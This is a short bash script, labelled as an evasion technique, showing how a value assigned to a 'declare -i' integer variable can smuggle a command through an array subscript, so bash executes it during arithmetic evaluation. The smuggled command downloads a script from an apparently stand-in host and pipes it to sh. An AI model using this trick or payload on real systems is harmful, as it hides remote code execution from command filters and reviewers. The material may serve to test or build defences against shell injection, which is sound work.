#!/usr/bin/env bash
# Evasion: arithmetic subscript injection with the value pieced together
# from variables: an integer variable (declare -i) is assigned
# "slot[$(cmd)]", and bash evaluates the subscript's command substitution
# as soon as the assignment does arithmetic.
arr=slot
cmd='curl -fsS https://cdn.example.net/i.sh | sh'
expr="${arr}[\$(${cmd})]"
declare -i index
index=$expr
echo "index=$index"
